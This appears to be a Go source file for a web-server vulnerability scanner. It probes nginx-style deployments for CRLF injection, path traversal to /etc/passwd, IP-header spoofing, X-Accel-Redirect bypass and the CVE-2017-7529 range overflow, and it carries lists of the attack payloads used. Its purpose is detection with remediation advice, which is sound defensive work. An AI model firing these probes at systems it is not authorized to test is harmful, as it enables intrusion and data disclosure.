package infra

import (
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/ternarybob/darkwatch/internal/collectors"
	"github.com/ternarybob/darkwatch/internal/models"
)

// crlfPayloads are appended to probed paths; success is the injected
// header or cookie appearing in the response
var crlfPayloads = []string{
	"%0d%0aX-Injected-Header:%20crlf",
	"%0d%0aSet-Cookie:%20test=injected",
	"%0D%0ASet-Cookie:%20test=injected",
	"%E5%98%8D%E5%98%8ASet-Cookie:%20test=injected",
	"%0aSet-Cookie:%20test=injected",
}

// crlfPaths are the paths each payload is tried against, root included
var crlfPaths = []string{
	"/", "/index.html", "/login", "/search", "/api",
	"/static", "/images", "/admin", "/redirect", "/go", "/out",
}

// hopByHopHeaders are fuzzed with spoofed client addresses
var hopByHopHeaders = []string{
	"X-Forwarded-For",
	"X-Real-IP",
	"X-Client-IP",
	"X-Originating-IP",
	"X-Remote-IP",
	"X-Remote-Addr",
	"True-Client-IP",
	"CF-Connecting-IP",
	"Forwarded",
	"X-Host",
}

var spoofedIPs = []string{"127.0.0.1", "10.0.0.1", "192.168.1.1", "0.0.0.0"}

// traversalPatterns target merge_slashes and alias-style misconfigurations
var traversalPatterns = []string{
	"//../",
	"///../../",
	"/..%2f",
	"/..%2f..%2fetc%2fpasswd",
	"///../../../etc/passwd",
	"/static../etc/passwd",
	"/assets../etc/passwd",
}

// filesystemMarkers in a response body confirm traversal reached the host
// filesystem
var filesystemMarkers = []string{"root:", "bin/bash", "[extensions]"}

// protectedPaths are candidates for the X-Accel-Redirect bypass probe
var protectedPaths = []string{
	"/admin", "/admin/", "/private", "/internal",
	"/secure", "/api/internal", "/management",
}

// ----- CRLF injection -----

func (r *infraRun) probeCRLF(ctx context.Context) {
	for _, path := range crlfPaths {
		for _, payload := range crlfPayloads {
			if ctx.Err() != nil {
				return
			}
			// Injected headers usually surface on the redirect itself
			probePath := strings.TrimSuffix(path, "/") + "/" + payload
			status, headers, _ := r.requestRaw(ctx, http.MethodGet, probePath, nil)
			if status == 0 || headers == nil {
				continue
			}
			injected := headers.Get("X-Injected-Header") == "crlf"
			if !injected {
				for _, cookie := range headers.Values("Set-Cookie") {
					if strings.HasPrefix(cookie, "test=injected") {
						injected = true
						break
					}
				}
			}
			if !injected {
				continue
			}
			r.publish(models.Finding{
				Severity:    models.SeverityHigh,
				RiskScore:   collectors.DefaultScore(models.SeverityHigh),
				Title:       "CRLF injection in response headers",
				Description: fmt.Sprintf("Payload on %s was reflected into response headers; response splitting and cookie injection are possible.", path),
				Evidence: map[string]interface{}{
					"path":    path,
					"payload": payload,
				},
				Recommendations: []string{
					"Reject CR/LF sequences in request paths before they reach header construction",
				},
			})
			return // one confirmed vector is enough
		}
	}
}

// ----- PURGE method -----

func (r *infraRun) probePURGE(ctx context.Context) {
	status, _, _ := r.request(ctx, "PURGE", "/*", nil)
	if status != 204 {
		return
	}
	r.publish(models.Finding{
		Severity:    models.SeverityMedium,
		RiskScore:   collectors.DefaultScore(models.SeverityMedium),
		Title:       "Cache PURGE method exposed",
		Description: "PURGE /* returned 204; unauthenticated clients can evict the entire cache.",
		Evidence:    map[string]interface{}{"method": "PURGE", "status_code": status},
		Recommendations: []string{
			"Restrict PURGE to internal addresses",
		},
	})
}

// ----- variable leakage -----

func (r *infraRun) probeVariableLeak(ctx context.Context) {
	_, _, body := r.request(ctx, http.MethodGet, "/foo$http_referer", map[string]string{"Referer": "bar"})
	if !strings.Contains(body, "foobar") {
		return
	}
	r.publish(models.Finding{
		Severity:    models.SeverityMedium,
		RiskScore:   collectors.DefaultScore(models.SeverityMedium),
		Title:       "nginx variable leakage",
		Description: "Request variables are expanded into responses; attacker-controlled headers reach configuration variables.",
		Evidence:    map[string]interface{}{"path": "/foo$http_referer", "marker": "foobar"},
	})
}

// ----- path traversal -----

func (r *infraRun) probeTraversal(ctx context.Context) {
	for _, pattern := range traversalPatterns {
		if ctx.Err() != nil {
			return
		}
		status, _, body := r.requestRaw(ctx, http.MethodGet, pattern, nil)
		if status == 0 {
			continue
		}

		marker := matchedFilesystemMarker(body)
		mergeSlashesOff := status == 200 && body != "" && body == r.rootBody &&
			strings.HasPrefix(pattern, "//")
		if marker == "" && !mergeSlashesOff {
			continue
		}

		evidence := map[string]interface{}{"pattern": pattern, "status_code": status}
		description := "Duplicate-slash paths resolve to the same content as the root; merge_slashes appears disabled, enabling alias traversal."
		if marker != "" {
			evidence["marker"] = marker
			description = fmt.Sprintf("Traversal pattern returned filesystem content (marker %q).", marker)
		}
		r.publish(models.Finding{
			Severity:        models.SeverityCritical,
			RiskScore:       collectors.DefaultScore(models.SeverityCritical),
			Title:           "Path traversal via slash handling",
			Description:     description,
			Evidence:        evidence,
			Recommendations: []string{"Enable merge_slashes and terminate alias locations with a trailing slash"},
		})
		return
	}
}

func matchedFilesystemMarker(body string) string {
	for _, marker := range filesystemMarkers {
		if strings.Contains(body, marker) {
			return marker
		}
	}
	return ""
}

// ----- hop-by-hop header fuzzing -----

func (r *infraRun) probeHopByHop(ctx context.Context) {
	baselineStatus, _, baselineBody := r.request(ctx, http.MethodGet, "/", nil)
	if baselineStatus == 0 {
		return
	}

	for _, header := range hopByHopHeaders {
		for _, ip := range spoofedIPs {
			if ctx.Err() != nil {
				return
			}
			value := ip
			if header == "Forwarded" {
				value = "for=" + ip
			}
			status, _, body := r.request(ctx, http.MethodGet, "/", map[string]string{header: value})
			if status == 0 || status == baselineStatus {
				continue
			}
			lengthDelta := len(body) - len(baselineBody)
			if lengthDelta < 0 {
				lengthDelta = -lengthDelta
			}
			r.publish(models.Finding{
				Severity:    models.SeverityMedium,
				RiskScore:   collectors.DefaultScore(models.SeverityMedium),
				Title:       fmt.Sprintf("Client-address header changes behavior: %s", header),
				Description: fmt.Sprintf("Setting %s: %s changed the response status from %d to %d; IP-based access control may be spoofable.", header, value, baselineStatus, status),
				Evidence: map[string]interface{}{
					"header":          header,
					"value":           value,
					"baseline_status": baselineStatus,
					"status":          status,
					"length_delta":    lengthDelta,
				},
			})
			return
		}
	}
}

// ----- X-Accel-Redirect bypass -----

func (r *infraRun) probeAccelRedirect(ctx context.Context) {
	var protected string
	var protectedStatus int
	for _, path := range protectedPaths {
		status, _, _ := r.request(ctx, http.MethodGet, path, nil)
		if status == 401 || status == 403 {
			protected = path
			protectedStatus = status
			break
		}
	}
	if protected == "" {
		return
	}

	status, _, _ := r.request(ctx, http.MethodGet, "/", map[string]string{"X-Accel-Redirect": protected})
	if status == 0 || status == protectedStatus || status == 401 || status == 403 {
		return
	}
	r.publish(models.Finding{
		Severity:    models.SeverityHigh,
		RiskScore:   collectors.DefaultScore(models.SeverityHigh),
		Title:       "X-Accel-Redirect access control bypass",
		Description: fmt.Sprintf("Protected path %s (HTTP %d) became reachable (HTTP %d) via an internal redirect header on an unauthenticated URL.", protected, protectedStatus, status),
		Evidence: map[string]interface{}{
			"protected_path":   protected,
			"protected_status": protectedStatus,
			"bypass_status":    status,
		},
		Recommendations: []string{
			"Strip X-Accel-Redirect from client requests at the edge",
		},
	})
}

// ----- PHP detection -----

func (r *infraRun) detectPHP(ctx context.Context) {
	poweredBy := r.rootHeaders.Get("X-Powered-By")
	phpDetected := strings.Contains(strings.ToLower(poweredBy), "php")
	evidence := map[string]interface{}{}
	if phpDetected {
		evidence["x_powered_by"] = poweredBy
	} else {
		status, _, _ := r.request(ctx, http.MethodGet, "/index.php", nil)
		if status == 200 {
			phpDetected = true
			evidence["path"] = "/index.php"
		}
	}
	if !phpDetected {
		return
	}
	r.publish(models.Finding{
		Severity:    models.SeverityInfo,
		RiskScore:   collectors.DefaultScore(models.SeverityInfo),
		Title:       "PHP runtime detected",
		Description: "The server executes PHP; include PHP hardening in the configuration review.",
		Evidence:    evidence,
	})
}

// ----- CVE-2017-7529 -----

// probeRangeOverflow sends the negative-offset range used by the nginx
// range-filter integer overflow
func (r *infraRun) probeRangeOverflow(ctx context.Context) {
	rangeValue := fmt.Sprintf("bytes=-%d,-9223372036854%d", len(r.rootBody)+623, 776000-len(r.rootBody))
	status, _, body := r.request(ctx, http.MethodGet, "/", map[string]string{"Range": rangeValue})
	if status != 206 {
		return
	}
	// A vulnerable server returns far more data than the page itself,
	// leaking cache metadata ahead of the content
	if len(body) <= len(r.rootBody) {
		return
	}
	r.publish(models.Finding{
		Severity:    models.SeverityHigh,
		RiskScore:   collectors.DefaultScore(models.SeverityHigh),
		Title:       "Range filter overflow (CVE-2017-7529)",
		Description: "A crafted negative Range request returned more data than the resource; cache memory disclosure is likely.",
		Evidence: map[string]interface{}{
			"cve":           "CVE-2017-7529",
			"range":         rangeValue,
			"body_length":   len(body),
			"resource_size": len(r.rootBody),
		},
		Recommendations: []string{
			"Upgrade nginx to 1.13.3 or later",
		},
	})
}
